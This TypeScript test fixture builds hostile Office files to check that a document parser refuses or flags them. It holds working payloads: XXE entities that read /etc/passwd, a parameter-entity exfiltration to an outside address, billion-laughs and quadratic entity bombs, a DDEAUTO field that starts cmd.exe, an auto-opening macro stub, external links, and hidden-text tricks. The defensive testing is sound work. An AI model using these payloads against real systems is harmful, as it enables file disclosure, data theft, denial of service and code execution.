import { ADDRESS, type HostileFile, noise } from "./hostile-file";
import { paragraph, relations, sheetParts, slideParts, word, wordParts } from "./office-parts";
import { zipOf } from "./zip-writer";

const OLE = Buffer.from("d0cf11e0a1b11ae1", "hex");
const core = paragraph("The corridor is a protected route.");
const file = (id: string, ending: string, attack: string, bytes: () => Buffer, more: Partial<HostileFile>): HostileFile => ({
  id,
  name: `${id}.${ending}`,
  attack,
  bytes,
  verdict: "read",
  ...more,
});

const LAUGHS = `<!DOCTYPE lolz [<!ENTITY l0 "lol">${Array.from({ length: 12 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join("")}]>`;
const QUADRATIC = `<!DOCTYPE q [<!ENTITY a "${"a".repeat(100_000)}">]>`;
const dtd = { verdict: "refused", words: /document type|entit/i, never: /root:|lollol/ } as const;
/** Password-protected Office files are OLE files with two streams. */
const encrypted = () => Buffer.concat([OLE, Buffer.alloc(504), Buffer.from("EncryptionInfo\0EncryptedPackage", "utf16le"), noise(8000)]);

const run = (properties: string, text: string) => `<w:p><w:r><w:rPr>${properties}</w:rPr><w:t>${text}</w:t></w:r></w:p>`;
const HIDDEN = "The real price is nine million pounds.";

/** Markup, links and programs inside Office files. */
export const OFFICE_FILES: readonly HostileFile[] = [
  file("xxe-file", "docx", "an external entity that reads /etc/passwd", () => zipOf(wordParts(paragraph("before &x; after"), '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>')), dtd),
  file("xxe-network", "docx", "a DTD from the network", () => zipOf(wordParts(core, `<!DOCTYPE d SYSTEM "${ADDRESS}/evil.dtd">`)), dtd),
  file("xxe-parameter", "docx", "parameter entities that send a file away", () => zipOf(wordParts(core, `<!DOCTYPE d [<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % r SYSTEM "${ADDRESS}/?%f;">%r;]>`)), dtd),
  file("xxe-utf16", "docx", "the same, written in UTF-16", () => {
    const [a, b, body] = wordParts(core, '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>');
    return zipOf([a, b].flatMap((part) => part ?? []).concat({ name: "word/document.xml", content: Buffer.from(`\ufeff${String(body?.content)}`, "utf16le") }));
  }, dtd),
  file("xxe-relations", "docx", "an entity in the relations", () => word(core, { name: "word/_rels/document.xml.rels", content: `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>${relations()}` }), dtd),
  file("billion-laughs", "docx", "ten to the twelfth laughs", () => zipOf(wordParts(paragraph("&l12;"), LAUGHS)), dtd),
  file("quadratic-blowup", "docx", "one long entity, used 20,000 times", () => zipOf(wordParts(paragraph("&a;".repeat(20_000)), QUADRATIC)), dtd),
  file("xlsx-xxe", "xlsx", "an external entity in a sheet", () => zipOf(sheetParts({ prolog: '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>' })), dtd),
  file("xlsx-laughs", "xlsx", "a billion laughs in a sheet", () => zipOf(sheetParts({ prolog: LAUGHS })), dtd),
  file("pptx-xxe", "pptx", "an external entity in a slide", () => zipOf(slideParts("&x;", '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>')), { verdict: "refused", never: /root:/ }),
  file("docx-external", "docx", "a template, a picture and a frame on the network", () =>
    word(core, {
      name: "word/_rels/document.xml.rels",
      content: relations({ id: "r1", type: "attachedTemplate", target: `${ADDRESS}/t.dotm`, external: true }, { id: "r2", type: "image", target: `${ADDRESS}/p.png`, external: true }, { id: "r3", type: "frame", target: "file://///hostile.invalid/share/x", external: true }),
    }), { flags: ["external-links"] }),
  file("xlsx-external", "xlsx", "a workbook that links to another on the network", () => zipOf([...sheetParts(), { name: "xl/externalLinks/_rels/externalLink1.xml.rels", content: relations({ id: "r1", type: "externalLinkPath", target: `${ADDRESS}/b.xlsx`, external: true }) }]), {
    flags: ["external-links"],
  }),
  file("pptx-external", "pptx", "a slide with a film on the network", () => zipOf(slideParts("Doors", "", [{ id: "r9", type: "video", target: `${ADDRESS}/f.mp4`, external: true }])), { verdict: "either" }),
  file("docm-macros", "docm", "a macro that opens with the document", () => word(core, { name: "word/vbaProject.bin", content: Buffer.concat([OLE, noise(4000), Buffer.from("AutoOpen Shell calc.exe")]) }), { flags: ["macros"] }),
  file("xlsm-macros", "xlsm", "a workbook with macros", () => zipOf([...sheetParts(), { name: "xl/vbaProject.bin", content: Buffer.concat([OLE, noise(4000)]) }]), { flags: ["macros"] }),
  file("docx-ole", "docx", "an embedded OLE package", () => word(core, { name: "word/embeddings/oleObject1.bin", content: Buffer.concat([OLE, noise(2000)]) }), { flags: ["embedded-files"] }),
  file("docx-dde", "docx", "a DDE field that starts a program", () => word(`${core}<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`), {
    flags: ["external-links"],
  }),
  file("docx-encrypted", "docx", "a Word document with a password", encrypted, { verdict: "refused", words: /password/ }),
  file("xlsx-encrypted", "xlsx", "a workbook with a password", encrypted, { verdict: "refused", words: /password/ }),
  file("docx-deep", "docx", "tables nested 20,000 deep", () => word(`${"<w:tbl><w:tr><w:tc>".repeat(20_000)}${core}${"</w:tc></w:tr></w:tbl>".repeat(20_000)}`), { verdict: "either" }),
  file("docx-million-runs", "docx", "a million runs of one letter", () => word(`<w:p>${"<w:r><w:t>a</w:t></w:r>".repeat(1_000_000)}</w:p>`), { verdict: "either" }),
  file("docx-vanish", "docx", "words marked as hidden", () => word(core + run("<w:vanish/>", HIDDEN)), { flags: ["hidden-text"] }),
  file("docx-white", "docx", "white words", () => word(core + run('<w:color w:val="FFFFFF"/>', HIDDEN)), { flags: ["hidden-text"] }),
  file("docx-tiny", "docx", "words half a point tall", () => word(core + run('<w:sz w:val="1"/>', HIDDEN)), { flags: ["hidden-text"] }),
  file("xlsx-dimension", "xlsx", "a sheet that claims 17 thousand million cells", () => zipOf(sheetParts({ sheet: '<dimension ref="A1:XFD1048576"/><sheetData><row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>7</v></c></row></sheetData>' })), {}),
  file("xlsx-merged", "xlsx", "100,000 merged ranges over the whole sheet", () => zipOf(sheetParts({ sheet: `<sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData><mergeCells>${'<mergeCell ref="A1:XFD1048576"/>'.repeat(100_000)}</mergeCells>` })), { verdict: "either" }),
  file("xlsx-strings", "xlsx", "one long shared string in a million cells", () =>
    zipOf([
      ...sheetParts({ sheet: `<sheetData>${Array.from({ length: 1000 }, (_, r) => `<row r="${r + 1}">${'<c t="s"><v>0</v></c>'.repeat(1000)}</row>`).join("")}</sheetData>` }).map((part) =>
        part.name === "xl/_rels/workbook.xml.rels"
          ? { ...part, content: relations({ id: "rId1", type: "worksheet", target: "worksheets/sheet1.xml" }, { id: "rId3", type: "sharedStrings", target: "sharedStrings.xml" }) }
          : part,
      ),
      { name: "xl/sharedStrings.xml", content: `<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>${"s".repeat(30_000)}</t></si></sst>` },
    ]), { verdict: "either" }),
  file("xlsx-three-million", "xlsx", "three million cells", () => zipOf(sheetParts({ sheet: `<sheetData>${Array.from({ length: 3000 }, (_, r) => `<row r="${r + 1}">${"<c><v>1</v></c>".repeat(1000)}</row>`).join("")}</sheetData>` })), {
    verdict: "refused",
    words: /two million cells|memory|overload/,
  }),
  file("xlsx-hidden-sheet", "xlsx", "a very hidden sheet", () => zipOf(sheetParts({ hidden: true })), { flags: ["hidden-text"] }),
  file("xlsx-hidden-rows", "xlsx", "hidden rows and columns", () => zipOf(sheetParts({ sheet: '<cols><col min="2" max="2" hidden="1"/></cols><sheetData><row r="1" hidden="1"><c r="A1" t="inlineStr"><is><t>Real margin</t></is></c></row></sheetData>' })), {
    flags: ["hidden-text"],
  }),
];
